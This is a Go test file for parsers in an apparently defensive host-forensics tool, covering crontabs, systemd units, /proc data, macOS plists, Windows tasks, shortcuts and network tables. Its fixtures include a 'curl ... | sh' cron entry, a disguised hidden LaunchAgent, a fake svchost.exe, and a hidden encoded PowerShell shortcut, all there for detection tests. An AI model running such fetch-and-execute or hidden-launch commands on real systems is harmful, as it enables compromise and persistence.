package collect

import (
	"encoding/binary"
	"encoding/hex"
	"reflect"
	"strconv"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/tansa-sec/tansa/internal/scan/result"
)

func TestParseCrontab(t *testing.T) {
	data := []byte("# comment\nMAILTO=root\n*/5 * * * * root curl -fsSL http://x/y | sh\n@reboot alice /opt/a  --flag\n1 2 3\n")
	got := ParseCrontab(data, true)
	want := []CronEntry{
		{Schedule: "*/5 * * * *", User: "root", Command: "curl -fsSL http://x/y | sh"},
		{Schedule: "@reboot", User: "alice", Command: "/opt/a  --flag"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("system crontab = %+v, want %+v", got, want)
	}
	got = ParseCrontab([]byte("0 3 * * * /usr/bin/backup\n"), false)
	if len(got) != 1 || got[0].Command != "/usr/bin/backup" || got[0].User != "" {
		t.Errorf("user crontab = %+v", got)
	}
}

func TestParseUnit(t *testing.T) {
	u := ParseUnit([]byte("[Service]\nExecStart=/a\nExecStart=\nExecStart=/b \\\n   --x\n; comment\nUser = web\n"))
	if got := u["Service.ExecStart"]; !reflect.DeepEqual(got, []string{"/b --x"}) {
		t.Errorf("ExecStart = %q (an empty assignment resets the list)", got)
	}
	if u.First("Service.User") != "web" {
		t.Errorf("User = %q", u.First("Service.User"))
	}
}

func TestParseProcStat(t *testing.T) {
	// A command name with spaces and parentheses must not shift fields.
	line := "4242 (evil) (x y) S 1 4242 4242 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 123456 1000 10 18446744073709551615 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0\n"
	st, err := ParseProcStat([]byte(line))
	if err != nil {
		t.Fatal(err)
	}
	if st.PID != 4242 || st.Comm != "evil) (x y" || st.PPID != 1 || st.StartTicks != 123456 || st.State != "S" {
		t.Errorf("stat = %+v", st)
	}
	if _, err := ParseProcStat([]byte("12 (short) S 1")); err == nil {
		t.Error("short stat parsed without error")
	}
}

func TestParseProcNet(t *testing.T) {
	data := []byte(`  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 31337 1 0000000000000000 100 0 0 10 0
   1: 0F02000A:C5D2 0A01A8C0:01BB 01 00000000:00000000 00:00000000 00000000     0        0 4711 1 0000000000000000 20 4 30 10 -1
`)
	got := ParseProcNet(data)
	if len(got) != 2 {
		t.Fatalf("got %d sockets", len(got))
	}
	if got[0].LocalAddr.String() != "127.0.0.1" || got[0].LocalPort != 3306 || got[0].State != "LISTEN" || got[0].Inode != 31337 {
		t.Errorf("listener = %+v", got[0])
	}
	if got[1].RemoteAddr.String() != "192.168.1.10" || got[1].RemotePort != 443 || got[1].State != "ESTABLISHED" {
		t.Errorf("connection = %+v", got[1])
	}
	v6 := []byte("header\n 0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 0A 0 0 0 0 0 99\n")
	if s := ParseProcNet(v6); len(s) != 1 || s[0].LocalAddr.String() != "::1" || s[0].LocalPort != 22 {
		t.Errorf("tcp6 = %+v", s)
	}
}

func TestParseProcMaps(t *testing.T) {
	data := []byte(`55d0c0a00000-55d0c0a02000 r--p 00000000 08:01 1234 /usr/bin/cat
55d0c0a02000-55d0c0a06000 r-xp 00002000 08:01 1234 /usr/bin/cat
7f0000010000-7f0000018000 rw-s 00000000 08:01 77 /tmp/data/events.db-shm
7f0000020000-7f0000028000 rw-s 00000000 00:19 78 /dev/shm/PostgreSQL.183837736
7f0000000000-7f0000001000 r-xp 00000000 08:01 99 /tmp/inject me.so
7f0000002000-7f0000003000 rw-p 00000000 00:00 0 [heap]
7f0000004000-7f0000005000 r-xp 00000000 08:01 99 /tmp/inject me.so
`)
	if got := ParseProcMaps(data); !reflect.DeepEqual(got, []string{"/usr/bin/cat", "/tmp/inject me.so"}) {
		t.Errorf("maps = %q", got)
	}
}

func TestParseDpkgStatus(t *testing.T) {
	got := ParseDpkgStatus([]byte("Package: a\nStatus: install ok installed\nVersion: 1\n\nPackage: b\nStatus: deinstall ok config-files\nVersion: 2\n"))
	if len(got) != 1 || got[0].Name != "a" || got[0].Version != "1" || got[0].Source != "dpkg" {
		t.Errorf("dpkg = %+v", got)
	}
}

const launchAgent = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>Label</key><string>com.apple.updater.helper</string>
	<key>ProgramArguments</key>
	<array><string>/Users/bob/Library/.hidden/helper</string><string>--silent</string></array>
	<key>RunAtLoad</key><true/>
	<key>StartInterval</key><integer>3600</integer>
</dict>
</plist>`

func TestParsePlist(t *testing.T) {
	v, err := ParsePlist([]byte(launchAgent))
	if err != nil {
		t.Fatal(err)
	}
	m := v.(map[string]any)
	if plistString(m, "Label") != "com.apple.updater.helper" || m["RunAtLoad"] != true || m["StartInterval"] != int64(3600) {
		t.Errorf("plist = %#v", m)
	}
	if got := LaunchCommand(m); got != "/Users/bob/Library/.hidden/helper --silent" {
		t.Errorf("command = %q", got)
	}
	if _, err := ParsePlist([]byte("bplist00\x01")); err == nil {
		t.Error("truncated binary plist parsed without error")
	}
}

// binaryAgent was written by Python's plistlib (FMT_BINARY).
const binaryAgent = "62706c6973743030d90102030405060708090a0b0c0d15191a1b1c5342696754426c6f62554c6162656c564e65737465645f101050726f6772616d417267756d656e747355526174696f5952756e41744c6f61645d5374617274496e74657276616c545768656e1300000100000000004200015f1011636f6d2e6578616d706c652e6167656e74d10e0f5141a310111210011002d11314514208a31617185f101b2f55736572732f626f622f4c6962726172792f2e782f6167656e74572d2d71756965746365e5672c8a9e233ff800000000000009110e103341c858254c000000081b1f242a31444a5462677073878a8c90929497999a9ebcc4cbd4d5d80000000000000101000000000000001d000000000000000000000000000000e1"

func TestParseBinaryPlist(t *testing.T) {
	data, _ := hex.DecodeString(binaryAgent)
	v, err := ParsePlist(data)
	if err != nil {
		t.Fatal(err)
	}
	m := v.(map[string]any)
	if got := LaunchCommand(m); got != "/Users/bob/Library/.x/agent --quiet 日本語" {
		t.Errorf("command = %q", got)
	}
	want := map[string]any{
		"Label": "com.example.agent", "RunAtLoad": true, "StartInterval": int64(3600), "Ratio": 1.5,
		"Blob": []byte{0, 1}, "When": time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC), "Big": int64(1) << 40,
		"Nested": map[string]any{"A": []any{int64(1), int64(2), map[string]any{"B": false}}},
	}
	for k, w := range want {
		if !reflect.DeepEqual(m[k], w) {
			t.Errorf("%s = %#v, want %#v", k, m[k], w)
		}
	}
}

func utf16LE(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2+2*len(u))
	b[0], b[1] = 0xFF, 0xFE
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2+2*i:], c)
	}
	return b
}

const taskXML = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>CORP\admin</Author></RegistrationInfo>
  <Settings><Enabled>false</Enabled></Settings>
  <Actions Context="Author">
    <Exec><Command>C:\Users\Public\svchost.exe</Command><Arguments>-k netsvcs</Arguments></Exec>
    <ComHandler><ClassId>{A6BA00FE-40E8-477C-B713-C64A14F18ADB}</ClassId></ComHandler>
  </Actions>
</Task>`

func TestParseTaskXML(t *testing.T) {
	task, err := ParseTaskXML(utf16LE(taskXML))
	if err != nil {
		t.Fatal(err)
	}
	want := Task{Author: `CORP\admin`, Enabled: false, Commands: []string{`C:\Users\Public\svchost.exe -k netsvcs`, "com:{A6BA00FE-40E8-477C-B713-C64A14F18ADB}"}}
	if !reflect.DeepEqual(task, want) {
		t.Errorf("task = %+v, want %+v", task, want)
	}
}

func TestParseRecycleBinI(t *testing.T) {
	name := utf16.Encode([]rune(`C:\Users\bob\Desktop\payload.exe`))
	b := make([]byte, 28+2*len(name)+2)
	binary.LittleEndian.PutUint64(b, 2)
	binary.LittleEndian.PutUint64(b[8:], 73802)
	deleted := time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)
	binary.LittleEndian.PutUint64(b[16:], uint64(deleted.UnixNano()/100+116444736000000000))
	binary.LittleEndian.PutUint32(b[24:], uint32(len(name)+1))
	for i, c := range name {
		binary.LittleEndian.PutUint16(b[28+2*i:], c)
	}
	ri, err := ParseRecycleBinI(b)
	if err != nil {
		t.Fatal(err)
	}
	if ri.OriginalPath != `C:\Users\bob\Desktop\payload.exe` || ri.Size != 73802 || !ri.Deleted.Equal(deleted) {
		t.Errorf("$I = %+v", ri)
	}
}

func TestParseTCPTable(t *testing.T) {
	b := make([]byte, 4+2*24)
	binary.LittleEndian.PutUint32(b, 2)
	row := func(off int, state uint32, local [4]byte, lport uint16, remote [4]byte, rport uint16, pid uint32) {
		r := b[4+off*24:]
		binary.LittleEndian.PutUint32(r, state)
		copy(r[4:], local[:])
		binary.BigEndian.PutUint16(r[8:], lport)
		copy(r[12:], remote[:])
		binary.BigEndian.PutUint16(r[16:], rport)
		binary.LittleEndian.PutUint32(r[20:], pid)
	}
	row(0, 2, [4]byte{0, 0, 0, 0}, 445, [4]byte{}, 0, 4)
	row(1, 5, [4]byte{10, 0, 0, 5}, 50123, [4]byte{203, 0, 113, 9}, 443, 6120)
	got := ParseTCPTable(b, false)
	want := []result.Connection{
		{Protocol: "tcp", LocalAddr: "0.0.0.0", LocalPort: 445, State: "LISTEN", PID: 4},
		{Protocol: "tcp", LocalAddr: "10.0.0.5", LocalPort: 50123, RemoteAddr: "203.0.113.9", RemotePort: 443, State: "ESTABLISHED", PID: 6120},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("tcp table = %+v, want %+v", got, want)
	}
	// A count larger than the buffer must not read past it.
	binary.LittleEndian.PutUint32(b, 1000)
	if got := ParseTCPTable(b, false); len(got) != 2 {
		t.Errorf("overstated count gave %d rows", len(got))
	}
}

func TestParseLsof(t *testing.T) {
	data := []byte("p123\ncsshd\nf3\nPTCP\nn*:22\nTST=LISTEN\np456\ncMail\nf10\nPTCP\nn10.0.0.2:50000->17.57.144.10:993\nTST=ESTABLISHED\nf11\nPUDP\nn[::1]:5353\n")
	got := ParseLsof(data)
	want := []result.Connection{
		{Protocol: "tcp", LocalAddr: "0.0.0.0", LocalPort: 22, State: "LISTEN", PID: 123, Process: "sshd"},
		{Protocol: "tcp", LocalAddr: "10.0.0.2", LocalPort: 50000, RemoteAddr: "17.57.144.10", RemotePort: 993, State: "ESTABLISHED", PID: 456, Process: "Mail"},
		{Protocol: "udp6", LocalAddr: "::1", LocalPort: 5353, PID: 456, Process: "Mail"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("lsof = %+v\nwant %+v", got, want)
	}
}

func TestParseProcArgs2(t *testing.T) {
	data := append([]byte{2, 0, 0, 0}, []byte("/Applications/X.app/Contents/MacOS/X\x00\x00\x00\x00X\x00--bg\x00HOME=/Users/bob\x00")...)
	exe, args, err := ParseProcArgs2(data)
	if err != nil || exe != "/Applications/X.app/Contents/MacOS/X" || !reflect.DeepEqual(args, []string{"X", "--bg"}) {
		t.Errorf("procargs2 = %q %q %v", exe, args, err)
	}
}

func TestParseHostsAndOddEncodings(t *testing.T) {
	// UTF-16 hosts files exist on Windows machines edited with Notepad.
	got := ParseHosts(utf16LE("# c\r\n203.0.113.5 Login.Example.COM\r\nbogus line\r\n"))
	if len(got) != 1 || got[0].Name != "login.example.com" || got[0].Address != "203.0.113.5" {
		t.Errorf("hosts = %+v", got)
	}
	for _, l := range lines([]byte("ok\n\xff\xfe bad \xc3\x28\n")) {
		if !utf8.ValidString(l) {
			t.Errorf("line %q is not valid UTF-8", l)
		}
	}
}

func TestParseAuthorizedKeys(t *testing.T) {
	got := ParseAuthorizedKeys([]byte(`from="10.0.0.0/8,192.168.0.1",command="echo hi there" ssh-rsa AAAAB3 user@host` + "\nssh-ed25519 AAAAC3\n"))
	want := []AuthorizedKey{
		{Options: `from="10.0.0.0/8,192.168.0.1",command="echo hi there"`, Type: "ssh-rsa", Comment: "user@host"},
		{Type: "ssh-ed25519"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("keys = %+v", got)
	}
	if opts := splitOptions(got[0].Options); len(opts) != 2 || opts[1] != `command="echo hi there"` {
		t.Errorf("options = %q", opts)
	}
}

// checkStrings fails when a parser returns a string that is not valid
// UTF-8, which would corrupt the JSON result.
func checkStrings(t *testing.T, v any) {
	t.Helper()
	var walk func(reflect.Value)
	walk = func(rv reflect.Value) {
		switch rv.Kind() {
		case reflect.String:
			if !utf8.ValidString(rv.String()) {
				t.Fatalf("invalid UTF-8 in output: %q", rv.String())
			}
		case reflect.Slice, reflect.Array:
			for i := range rv.Len() {
				walk(rv.Index(i))
			}
		case reflect.Struct:
			for i := range rv.NumField() {
				if rv.Type().Field(i).IsExported() {
					walk(rv.Field(i))
				}
			}
		case reflect.Map:
			for _, k := range rv.MapKeys() {
				walk(k)
				walk(rv.MapIndex(k))
			}
		case reflect.Interface, reflect.Pointer:
			if !rv.IsNil() {
				walk(rv.Elem())
			}
		}
	}
	walk(reflect.ValueOf(v))
}

func FuzzParseCrontab(f *testing.F) {
	f.Add([]byte("*/5 * * * * root curl x | sh\n@reboot /a\nA=b\n"), true)
	f.Fuzz(func(t *testing.T, data []byte, system bool) {
		checkStrings(t, ParseCrontab(data, system))
	})
}

func FuzzParseUnit(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/a \\\n b\nUser=x\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkStrings(t, ParseUnit(data))
	})
}

func FuzzParseDpkgStatus(f *testing.F) {
	f.Add([]byte("Package: a\nStatus: install ok installed\nVersion: 1\n\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkStrings(t, ParseDpkgStatus(data))
	})
}

func FuzzParsePlist(f *testing.F) {
	f.Add([]byte(launchAgent))
	if b, err := hex.DecodeString(binaryAgent); err == nil {
		f.Add(b)
	}
	f.Add([]byte("<plist><array><dict><key>a</key><real>1.5</real><date>2020-01-01T00:00:00Z</date></dict></array></plist>"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if v, err := ParsePlist(data); err == nil {
			if m, ok := v.(map[string]any); ok {
				_ = LaunchCommand(m)
			}
		}
	})
}

func FuzzParseProcStat(f *testing.F) {
	f.Add([]byte("1 (init) S 0 1 1 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 5 1000 10 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0"))
	f.Fuzz(func(t *testing.T, data []byte) {
		st, err := ParseProcStat(data)
		if err == nil {
			checkStrings(t, st)
		}
	})
}

func FuzzParseProcFiles(f *testing.F) {
	f.Add([]byte("7f0-7f1 r-xp 0 08:01 9 /lib/x.so\n"), []byte("Uid:\t1000\t1000\t1000\t1000\n"), []byte("a\x00b\x00"))
	f.Fuzz(func(t *testing.T, maps, status, cmdline []byte) {
		checkStrings(t, ParseProcMaps(maps))
		uid, _ := ParseProcStatusUID(status)
		checkStrings(t, uid)
		checkStrings(t, ParseCmdline(cmdline))
	})
}

func FuzzParseProcNet(f *testing.F) {
	f.Add([]byte("h\n 0: 0100007F:0CEA 00000000:0000 0A 0 0 0 1000 0 31337\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		_ = ParseProcNet(data)
	})
}

func FuzzParseTaskXML(f *testing.F) {
	f.Add(utf16LE(taskXML))
	f.Add([]byte(taskXML))
	f.Fuzz(func(t *testing.T, data []byte) {
		if task, err := ParseTaskXML(data); err == nil {
			checkStrings(t, task)
		}
	})
}

func FuzzParseHosts(f *testing.F) {
	f.Add([]byte("127.0.0.1 localhost\n::1 a b # c\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkStrings(t, ParseHosts(data))
	})
}

func FuzzParseRecycleBinI(f *testing.F) {
	f.Add([]byte("\x02\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00A\x00\x00\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if ri, err := ParseRecycleBinI(data); err == nil {
			checkStrings(t, ri)
		}
	})
}

func FuzzParseWindowsIPTables(f *testing.F) {
	f.Add([]byte("\x01\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00\x01\xbd\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, v6 := range []bool{false, true} {
			_ = ParseTCPTable(data, v6)
			_ = ParseUDPTable(data, v6)
		}
	})
}

func FuzzParseLsof(f *testing.F) {
	f.Add([]byte("p1\ncx\nf3\nPTCP\nn*:22\nTST=LISTEN\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkStrings(t, ParseLsof(data))
	})
}

func FuzzParseProcArgs2(f *testing.F) {
	f.Add([]byte("\x02\x00\x00\x00/bin/x\x00\x00x\x00-y\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		exe, args, _ := ParseProcArgs2(data)
		checkStrings(t, append(args, exe))
	})
}

func FuzzParseAccountsAndKeys(f *testing.F) {
	f.Add([]byte("root:x:0:0:root:/root:/bin/bash\n"), []byte(`command="x" ssh-rsa AAA c`), []byte("A=\"b\"\n"), []byte("a\t1-1\tx86_64\tv\n"))
	f.Fuzz(func(t *testing.T, passwd, keys, kv, rpm []byte) {
		checkStrings(t, ParsePasswd(passwd))
		ks := ParseAuthorizedKeys(keys)
		checkStrings(t, ks)
		for _, k := range ks {
			_ = splitOptions(k.Options)
		}
		_ = ParseKeyValues(kv)
		checkStrings(t, ParseRPMQuery(rpm))
	})
}

func TestSplitHostPort(t *testing.T) {
	for in, want := range map[string]string{"*:22": "0.0.0.0 22", "[fe80::1]:80": "fe80::1 80", "x": "x 0"} {
		h, p := splitHostPort(in)
		if got := h + " " + strconv.Itoa(p); got != want {
			t.Errorf("splitHostPort(%q) = %q, want %q", in, got, want)
		}
	}
}

// shellLink builds a minimal Unicode shortcut with a LinkInfo local base
// path and arguments, as Explorer writes them.
func shellLink(target, args string) []byte {
	b := make([]byte, 0x4C)
	binary.LittleEndian.PutUint32(b, 0x4C)
	binary.LittleEndian.PutUint32(b[0x14:], 0x2|0x20|0x80) // HasLinkInfo, HasArguments, IsUnicode
	info := make([]byte, 0x1C)
	base := append([]byte(target), 0)
	binary.LittleEndian.PutUint32(info[4:], 0x1C)
	binary.LittleEndian.PutUint32(info[8:], 1)
	binary.LittleEndian.PutUint32(info[0x10:], 0x1C)
	binary.LittleEndian.PutUint32(info[0x18:], uint32(0x1C+len(base)))
	info = append(info, base...)
	info = append(info, 0)
	binary.LittleEndian.PutUint32(info, uint32(len(info)))
	b = append(b, info...)
	u := utf16.Encode([]rune(args))
	b = binary.LittleEndian.AppendUint16(b, uint16(len(u)))
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

func TestParseShellLink(t *testing.T) {
	l, err := ParseShellLink(shellLink(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"))
	if err != nil {
		t.Fatal(err)
	}
	if got := l.Command(); got != `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA` {
		t.Errorf("command = %q", got)
	}
	if _, err := ParseShellLink([]byte("not a link")); err == nil {
		t.Error("garbage parsed as a shell link")
	}
}

func FuzzParseShellLink(f *testing.F) {
	f.Add(shellLink(`C:\a.exe`, "-x"))
	f.Fuzz(func(t *testing.T, data []byte) {
		l, err := ParseShellLink(data)
		if err == nil {
			checkStrings(t, l)
		}
	})
}
